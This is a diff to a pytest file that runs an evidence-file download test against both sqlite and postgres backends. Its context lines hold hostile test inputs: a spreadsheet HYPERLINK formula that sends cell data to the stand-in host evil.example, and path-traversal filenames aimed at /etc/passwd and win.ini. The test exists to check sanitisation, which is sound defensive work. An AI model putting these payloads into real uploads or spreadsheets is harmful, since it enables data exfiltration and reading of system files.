@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from registry.bootstrap import create_app as registry_app
 from scoring.bootstrap import create_app as scoring_app
-from thidua_shared.testing import ApiUnderTest, running_service, within
+from thidua_shared.testing import ApiUnderTest, database_url_for, running_service, within
 
 NAMES = {
     "eq": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
@@ -120,6 +120,7 @@ def _saved_as(headers: dict[str, str]) -> tuple[str | None, str | None]:
     return str(params[0][0]) if params else None, chosen[0] if chosen else None
 
 
+@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
 @pytest.mark.parametrize(("uploaded_as", "saved_as"), [
     ("../../etc/passwd", "passwd"),
     ("..\\..\\windows\\win.ini", "win.ini"),
@@ -129,10 +130,13 @@ def _saved_as(headers: dict[str, str]) -> tuple[str | None, str | None]:
     ("..", None),
 ])
 async def test_an_evidence_file_downloads_under_its_own_name_without_folders_or_injected_parameters(
-    tmp_path: Path, kafka_bootstrap: str, uploaded_as: str, saved_as: str | None,
+    tmp_path: Path, kafka_bootstrap: str, monkeypatch: pytest.MonkeyPatch, backend: str, uploaded_as: str,
+    saved_as: str | None,
 ) -> None:
-    async with running_service(scoring_app, tmp_path, kafka_bootstrap) as scoring:
-        headers, content = await _upload_and_fetch(scoring, b"report", uploaded_as)
+    with database_url_for(backend, tmp_path) as url:
+        monkeypatch.setenv("THIDUA_DATABASE_URL", url)
+        async with running_service(scoring_app, tmp_path, kafka_bootstrap) as scoring:
+            headers, content = await _upload_and_fetch(scoring, b"report", uploaded_as)
 
     disposition, filename = _saved_as(headers)
     assert content == b"report"
